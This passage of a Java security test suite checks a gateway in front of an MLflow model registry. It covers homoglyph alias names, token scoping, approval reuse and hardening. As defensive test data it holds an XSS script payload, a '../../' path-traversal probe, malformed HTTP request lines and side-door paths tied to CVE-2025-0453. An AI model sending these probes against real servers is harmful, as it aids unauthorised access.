            server.call(who, "POST", API + "registered-models/alias", body);
        assertThat(reply.statusCode()).as(alias + reply.body()).isEqualTo(409);
        assertThat(reply.body()).contains("INVALID_STATE", "was refused");
      }
      for (String stage : List.of("Staging", "Production")) {
        String body = "{'name':'credit','version':'1','stage':'" + stage + "'}";
        HttpResponse<String> reply =
            server.call(who, "POST", API + "model-versions/transition-stage", body);
        assertThat(reply.statusCode()).as(stage + reply.body()).isEqualTo(409);
      }
    }
    JsonNode model = server.done(alice, "GET", API + "registered-models/get?name=credit", "");
    assertThat(model.at("/registered_model/aliases").isEmpty()).isTrue();
  }

  static List<String> lookalikes() {
    return List.of(
        "ｐｒｏｄ",
        "ｓｔａｇｉｎｇ",
        "prοd",
        "ρrod",
        "сһамріоп",
        "chаmpion",
        "ᴘʀᴏᴅ",
        "staɡing",
        "ſtaging",
        "prod\u200b",
        "\u202eprod",
        "pr\u00adod",
        "champıon",
        "ꓑꓣꓳꓓ",
        "𝐩𝐫𝐨𝐝");
  }

  /// An alias, or a name of a model, that people take for one which the gate guards.
  @ParameterizedTest
  @MethodSource("lookalikes")
  void namesThatLookAlike(String name) {
    register();
    String alias = "{'name':'credit','alias':'" + name + "','version':'1'}";
    HttpResponse<String> set = server.call(alice, "POST", API + "registered-models/alias", alias);
    assertThat(set.statusCode()).as(set.body()).isEqualTo(400);
    assertThat(set.body()).contains("INVALID_PARAMETER_VALUE");
    String model = "{'name':'" + name + "'}";
    HttpResponse<String> made = server.call(alice, "POST", API + "registered-models/create", model);
    assertThat(made.statusCode()).as(made.body()).isEqualTo(400);
    String renamed = "{'name':'credit','new_name':'" + name + "'}";
    assertThat(server.call(alice, "POST", API + "registered-models/rename", renamed).statusCode())
        .isEqualTo(400);
  }

  /// The gate guards an alias in whatever case it is written.
  @ParameterizedTest
  @ValueSource(strings = {"production", "Production", "PRODUCTION", "pRoD", "Champion", "STAGING"})
  void aliasesInAnyCase(String name) {
    register();
    String alias = "{'name':'credit','alias':'" + name + "','version':'1'}";
    HttpResponse<String> set = server.call(alice, "POST", API + "registered-models/alias", alias);
    assertThat(set.statusCode()).as(set.body()).isEqualTo(403);
    assertThat(set.body()).contains("releasing to");
  }

  /// A service that serves models, whose token is on every machine that does.
  @Test
  void runsReadByAService() {
    String named = "'run_id':'" + run + "'";
    server.done(
        alice,
        "POST",
        API + "runs/log-parameter",
        "{" + named + ",'key':'k','value':'" + MARK + "'}");
    server.done(alice, "POST", API + "logged-models", "{'experiment_id':'0','name':'m'}");
    register();
    String service = server.token("scorer", Persona.INFERENCE_SERVICE);
    for (String path :
        List.of(
            API + "runs/get?run_id=" + run,
            API + "metrics/get-history?metric_key=a&run_id=" + run,
            API + "artifacts/list?run_id=" + run,
            API + "experiments/get?experiment_id=0",
            API + "experiments/get-by-name?experiment_name=Default",
            "/api/redoubt/runs/" + run + "/holds",
            "/api/redoubt/experiments/0/holds",
            FILES + "0/" + run + "/artifacts/model/MLmodel",
            FILES.replaceAll("/$", "") + "?path=0/" + run + "/artifacts/model")) {
      HttpResponse<String> reply = server.call(service, "GET", path, "");
      assertThat(reply.statusCode()).as(path + reply.body()).isEqualTo(404);
      assertThat(reply.body()).as(path).doesNotContain(MARK);
    }
    for (String search :
        List.of("runs/search", "logged-models/search", "experiments/search-datasets")) {
      HttpResponse<String> found =
          server.call(service, "POST", API + search, "{'experiment_ids':['0'],'max_results':9}");
      assertThat(found.body()).as(search).doesNotContain(run, MARK, "'name'", "model_id");
    }
    HttpResponse<String> experiments =
        server.call(service, "GET", API + "experiments/search?max_results=9", "");
    assertThat(experiments.body()).doesNotContain("Default");
    // What it serves it finds, and reads once it is released.
    server.done(service, "GET", API + "registered-models/get?name=credit", "");
    String uri = API + "model-versions/get-download-uri?name=credit&version=1";
    assertThat(server.call(service, "GET", uri, "").statusCode()).isEqualTo(403);
    String staging = "{'name':'credit','alias':'staging','version':'1'}";
    server.done(
        server.token("erin", Persona.MLOPS_ENGINEER),
        "POST",
        API + "registered-models/alias",
        staging);
    server.done(service, "GET", uri, "");
  }

  /// Files that were approved, under a name whose reviewers have not seen them; and twenty
  /// approvals of one reviewer at once. The alias itself is tried in `WayToProductionTest`.
  @Test
  void approvalOfOtherModelsWithTheSameFiles() throws Exception {
    register();
    String reviewer = server.token("rob", Persona.MODEL_REVIEWER);
    String approvals = "/api/redoubt/models/credit/versions/1/approvals";
    List<Future<JsonNode>> replies = new ArrayList<>();
    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
      for (int i = 0; i < 20; i++) {
        replies.add(
            threads.submit(
                () -> server.done(reviewer, "POST", approvals, "{'environment':'staging'}")));
      }
    }
    for (Future<JsonNode> each : replies) {
      assertThat(each.get().get("environment").asString()).isEqualTo("staging");
    }
    server.done(alice, "POST", API + "registered-models/create", "{'name':'copy'}");
    String copy = "{'name':'copy','source':'models:/credit/1'}";
    server.done(alice, "POST", API + "model-versions/create", copy);
    assertThat(kinds("credit")).containsOnlyOnce("approval");
    assertThat(kinds("copy")).isNotEmpty().containsOnly("scan", "signature");
  }

  private List<String> kinds(String model) {
    return server
        .done(alice, "GET", "/api/redoubt/models/" + model + "/versions/1", "")
        .get("evidence")
        .valueStream()
        .map(each -> each.get("kind").asString())
        .toList();
  }

  /// What a browser would run if it showed it.
  @Test
  void scriptsInArtifacts() {
    String page = FILES + "0/" + run + "/artifacts/page.html";
    server.done(alice, "PUT", page, "<script>alert(1)</script>");
    HttpResponse<String> read = server.call(alice, "GET", page, "");
    assertThat(read.headers().firstValue("Content-Type")).contains("application/octet-stream");
    assertThat(read.headers().firstValue("Content-Disposition").orElse(""))
        .startsWith("attachment");
    assertThat(read.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    assertThat(read.headers().firstValue("Content-Security-Policy").orElse(""))
        .contains("default-src 'none'", "sandbox");
  }

  /// What the listener refuses by itself: a page of Tomcat's tells what listens, and in which
  /// version.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /%zz HTTP/1.1",
        "GET /a|b HTTP/1.1",
        "GET / HTTP/9.9",
        "G<T / HTTP/1.1",
        "TRACE / HTTP/1.1",
        "CONNECT a:1 HTTP/1.1"
      })
  void pagesOfTomcat(String line) {
    String reply = server.raw(line, "Host: localhost");
    assertThat(reply)
        .contains("\"error_code\"", "X-Content-Type-Options: nosniff", "Cache-Control: no-store")
        .doesNotContainIgnoringCase("<html")
        .doesNotContainIgnoringCase("tomcat");
  }

  /// CVE-2025-0453 and doors that MLflow's server has beside its protocol.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/graphql",
        "/get-artifact?path=MLmodel&run_uuid=RUN",
        "/model-versions/get-artifact?path=MLmodel&name=credit&version=1",
        "/ajax-api/2.0/mlflow/upload-artifact?run_uuid=RUN&path=x",
        "/ajax-api/2.0/mlflow/get-trace-artifact?request_id=1",
        "/metrics",
        "/version/../../canary.txt"
      })
  void otherDoors(String path) {
    HttpResponse<String> nobody =
        server.send(HttpRequest.newBuilder(), path.replace("RUN", run).replace("..", "%2e%2e"));
    assertThat(nobody.statusCode()).as(path).isBetween(400, 501);
    assertThat(nobody.body()).doesNotContain(MARK, CANARY);
  }
}
